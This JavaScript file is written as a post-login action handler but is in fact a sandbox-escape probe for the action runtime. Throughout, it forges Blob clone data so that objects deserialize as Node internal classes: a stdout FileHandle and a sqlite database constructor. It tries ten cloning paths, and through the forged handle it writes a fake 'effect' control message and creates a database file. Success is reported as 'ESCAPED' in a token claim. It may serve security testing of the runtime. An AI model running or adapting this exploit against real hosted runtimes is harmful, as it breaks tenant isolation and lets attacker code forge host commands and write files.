// objects that say themselves, as Node's own do, which internal class their copy is made with
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [], got = Object.create(null);
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  api.idToken.setCustomClaim('genuine', 1);
  const named = (text) => Object.getOwnPropertySymbols(Blob.prototype).find((s) => s.description.includes(text));
  const clone = named('clone');
  const as = (spec, data = {}) => { const o = new Blob(['x']); Object.defineProperty(o, clone, { value: () => ({ data, deserializeInfo: spec }) }); return o; };
  const ways = {
    structuredClone: (v) => structuredClone(v),
    nested: (v) => structuredClone({ list: [v] }).list[0],
    port: (v) => { const { port1, port2 } = new MessageChannel(); port1.postMessage(v); const r = require('worker_threads').receiveMessageOnPort(port2).message; port1.close(); return r; },
    broadcast: (v) => new Promise((done) => { const [a, b] = [new BroadcastChannel('x'), new BroadcastChannel('x')]; const end = (r) => { a.close(); b.close(); done(r); }; b.onmessage = (e) => end(e.data); setTimeout(end, 50); a.postMessage(v); }),
    mark: (v) => performance.mark('a', { detail: v }).detail,
    markClass: (v) => new (Object.getPrototypeOf(performance.mark('b')).constructor)('b', { detail: v }).detail,
    measure: (v) => performance.measure('c', { start: 0, end: 1, detail: v }).detail,
    tee: async (v) => { const s = new ReadableStream({ start(c) { c.enqueue(v); c.close(); } }); const [, b] = require('stream/web').ReadableStreamTee(s, true); return (await b.getReader().read()).value; },
    stream: async (v) => { const s = new ReadableStream({ start(c) { c.enqueue(v); c.close(); } }); return (await structuredClone(s, { transfer: [s] }).getReader().read()).value; },
    reason: (v) => { const c = require('util').transferableAbortController(); c.abort(v); return structuredClone(c.signal, { transfer: [c.signal] }).reason; },
  };
  for (const [way, copy] of Object.entries(ways)) {
    await attempt(way + ' FileHandle', async () => { const f = await copy(as('internal/fs/promises:FileHandle', { handle: { fd: 1 } })); return typeof f.write === 'function' && JSON.stringify(await f.write('\n{"type":"effect","data":{"method":"FORGED","arguments":[]}}\n')); });
    Object.defineProperty(Object.prototype, 'DatabaseSync', { __proto__: null, configurable: true, set(v) { got.D = v; Object.defineProperty(this, 'DatabaseSync', { __proto__: null, value: v, writable: true, configurable: true }); } });
    await attempt(way + ' sqlite', async () => { await copy(as('sqlite:x')); });
    delete Object.prototype.DatabaseSync;
    await attempt(way + ' database', () => { new got.D(S.WRITE_TARGET + '.db').exec('create table t(a)'); return 'written'; });
  }
  api.accessToken.setCustomClaim('genuine2', 2);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
